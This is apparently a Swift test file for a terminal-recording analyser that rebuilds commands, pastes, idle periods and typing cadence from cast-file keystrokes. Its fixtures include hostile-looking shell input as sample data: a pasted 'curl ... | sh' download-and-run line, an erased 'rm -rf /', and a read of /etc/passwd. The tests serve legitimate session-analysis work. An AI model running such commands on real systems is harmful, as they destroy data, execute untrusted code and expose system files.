@testable import BerthRecording
import Foundation
import Testing

@Suite("Recording analysis")
struct RecordingAnalysisTests {
    /// A cast file with `mode` in its header and these events.
    static func cast(mode: String = "input-output", _ events: [(Double, String, String)]) -> Data {
        var lines = [#"{"version":2,"width":80,"height":24,"timestamp":0,"env":{"BERTH_RECORDING_MODE":"\#(mode)"}}"#]
        for (time, code, data) in events {
            let encoded = String(decoding: try! JSONSerialization.data(withJSONObject: [data], options: [.fragmentsAllowed]), as: UTF8.self)
            lines.append("[\(time), \"\(code)\", \(encoded.dropFirst().dropLast())]")
        }
        return Data((lines.joined(separator: "\n") + "\n").utf8)
    }

    /// Keystrokes of `text`, one every `gap` seconds from `start`.
    static func typing(_ text: String, from start: Double, gap: Double = 0.15) -> [(Double, String, String)] {
        text.enumerated().map { index, character in (start + Double(index) * gap, "i", String(character)) }
    }

    @Test("commands are rebuilt from keystrokes with backspace, Ctrl-U and Ctrl-W applied; arrows and Tab mark them approximate")
    func commands() {
        var events = Self.typing("lss\u{7F} -la\r", from: 1)
        events += Self.typing("rm -rf /\u{15}whoami\r", from: 5)
        events += Self.typing("cat one two\u{17}three\r", from: 10)
        events += [(15, "i", "\u{1B}[A"), (15.2, "i", "\r")]
        events += Self.typing("cd /t\t\r", from: 20)
        events += [(25, "i", "sleep 100"), (25.5, "i", "\u{03}")]
        // The terminal's answer to ash's cursor-position query is not typing.
        events += [(30, "i", "\u{1B}[6;33R")] + Self.typing("id\r", from: 30.1)
        let analysis = RecordingAnalysis.analyse(cast: Self.cast(events))
        #expect(analysis.commands.map(\.text) == ["ls -la", "whoami", "cat one three", "cd /t", "id"])
        #expect(analysis.commands.map(\.approximate) == [false, false, false, true, false])
        #expect(analysis.commands[0].startedAt == 1)
        #expect(abs(analysis.commands[0].time - (1 + 8 * 0.15)) < 1e-9)
        #expect(analysis.inputRecorded)
    }

    @Test("a bracketed paste and a burst over the threshold are pastes; typing next to them is not")
    func pastes() {
        var events = Self.typing("echo ", from: 1, gap: 0.05)
        events.append((1.3, "i", "\u{1B}[200~curl http://example.org/x | sh\u{1B}[201~"))
        events.append((1.32, "i", "\r"))
        events += Self.typing("abc", from: 3, gap: 0.01)
        // 25 characters in 5 messages within 40 ms: a burst.
        events += (0..<5).map { (5 + Double($0) * 0.01, "i", "12345") }
        events += Self.typing("xyz", from: 7)
        let analysis = RecordingAnalysis.analyse(cast: Self.cast(events), thresholds: AnalysisThresholds(pasteChars: 20))
        #expect(analysis.pastes.count == 2, "\(analysis.pastes)")
        #expect(analysis.pastes[0].kind == "bracketed")
        #expect(analysis.pastes[0].text == "curl http://example.org/x | sh")
        #expect(analysis.pastes[0].chars == 30)
        #expect(analysis.pastes[1].kind == "burst")
        #expect(analysis.pastes[1].chars == 25)
        #expect(analysis.pastes[1].time == 5)
        #expect(analysis.commands.first?.text == "echo curl http://example.org/x | sh")
        // A higher threshold leaves only the bracketed paste.
        let strict = RecordingAnalysis.analyse(cast: Self.cast(events), thresholds: AnalysisThresholds(pasteChars: 26))
        #expect(strict.pastes.map(\.kind) == ["bracketed"])
    }

    @Test("two commands sent whole, seconds apart, are two events and never one paste")
    func commandsSecondsApartAreNotOnePaste() {
        let events: [(Double, String, String)] = [
            (1, "i", "cat /etc/passwd | grep root\r"),
            (4, "i", "ls -la /var/www/html/secret\r"),
        ]
        let analysis = RecordingAnalysis.analyse(cast: Self.cast(events), thresholds: AnalysisThresholds(pasteChars: 20))
        #expect(analysis.pastes.map(\.time) == [1, 4], "\(analysis.pastes)")
        #expect(analysis.pastes.map(\.text) == ["cat /etc/passwd | grep root\r", "ls -la /var/www/html/secret\r"])
        #expect(analysis.commands.map(\.text) == ["cat /etc/passwd | grep root", "ls -la /var/www/html/secret"])
    }

    @Test("a disconnect ends a paste: an unfinished bracketed paste stays alone, and a burst never spans the reconnect")
    func disconnectSplitsPastes() {
        var events: [(Double, String, String)] = [
            (1, "i", "\u{1B}[200~echo one two three four"),
            (2, "m", "disconnect"),
        ]
        events += Self.typing("whoami\r", from: 5)
        // 20 characters within 40 ms, but the writer reconnected in between.
        events += [(10, "i", "0123456789"), (10.02, "m", "disconnect"), (10.04, "i", "abcdefghij")]
        let analysis = RecordingAnalysis.analyse(cast: Self.cast(events), thresholds: AnalysisThresholds(pasteChars: 20))
        #expect(analysis.pastes.count == 1, "\(analysis.pastes)")
        #expect(analysis.pastes.first?.kind == "bracketed")
        #expect(analysis.pastes.first?.text == "echo one two three four")
        #expect(analysis.cadence.keystrokes >= 7, "whoami is typing again after the reconnect")
    }

    @Test("idle periods, active time and cadence follow the thresholds")
    func idleAndCadence() {
        var events = [(0.5, "o", "$ ")]
        events += Self.typing("ls\r", from: 1, gap: 0.2)
        events.append((1.5, "o", "file\r\n$ "))
        events.append((20, "m", "disconnect"))
        events += Self.typing("pwd\r", from: 61.5, gap: 0.1)
        events.append((62, "o", "/tmp\r\n$ "))
        let analysis = RecordingAnalysis.analyse(cast: Self.cast(events), thresholds: AnalysisThresholds(idleSeconds: 30))
        // Markers are not activity: the gap runs from 1.5 to 61.5.
        #expect(analysis.idle.count == 1)
        #expect(analysis.idle.first?.start == 1.5)
        #expect(analysis.idle.first?.end == 61.5)
        #expect(analysis.duration == 62)
        #expect(abs(analysis.activeSeconds - 2) < 1e-9)
        #expect(analysis.cadence.keystrokes == 7)
        // Intervals: 200, 200 ms then a 60 s pause (left out), then 100, 100, 100 ms.
        #expect(analysis.cadence.medianIntervalMs == 100)
        #expect(analysis.cadence.p90IntervalMs == 200)
        #expect(analysis.markers == [RecordingAnalysis.Marker(time: 20, label: "disconnect")])
        let shorter = RecordingAnalysis.analyse(cast: Self.cast(events), thresholds: AnalysisThresholds(idleSeconds: 10))
        #expect(shorter.idle.count == 1)
        #expect(RecordingAnalysis.analyse(cast: Self.cast(events), thresholds: AnalysisThresholds(idleSeconds: 100)).idle.isEmpty)
    }

    @Test("an output-only recording says input was not recorded; broken lines are counted, not fatal")
    func outputOnlyAndBrokenLines() {
        var data = Self.cast(mode: "output", [(0.1, "o", "hello"), (0.2, "r", "100x30")])
        data += Data("not json\n[1, \"o\"]\n".utf8)
        let analysis = RecordingAnalysis.analyse(cast: data)
        #expect(!analysis.inputRecorded)
        #expect(analysis.commands.isEmpty)
        #expect(analysis.cadence.keystrokes == 0)
        #expect(analysis.cadence.medianIntervalMs == nil)
        #expect(analysis.skippedLines == 2)
        #expect(analysis.duration == 0.2)
    }
}
